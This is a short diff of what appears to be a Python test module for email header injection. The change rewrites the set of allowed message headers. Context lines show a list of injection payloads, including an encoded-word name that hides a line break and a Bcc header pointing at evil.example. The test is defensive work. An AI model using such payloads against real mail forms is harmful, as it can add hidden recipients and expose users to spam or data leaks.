@@ -33,17 +33,9 @@ LATIN1 = "=?iso-8859-1?q?Ana=0D=0ABcc:_l@evil.example?="
 PAYLOADS = [BCC, REPLY_TO_AND_BODY, BASE64, LOWERCASE, SPLIT, NESTED, ADJACENT, LATIN1]
 
 # What every registrant message carries, no more (Date is added when it is sent).
-HEADERS = {
-    "Date",
-    "Subject",
-    "From",
-    "To",
-    "Message-ID",
-    "Auto-Submitted",
-    "MIME-Version",
-    "Content-Type",
-    "Content-Language",
-}
+HEADERS = set(
+    "Date Subject From To Message-ID Auto-Submitted MIME-Version Content-Type Content-Language".split()
+)
 
 
 FOLD = re.compile(r"\r?\n[ \t]")
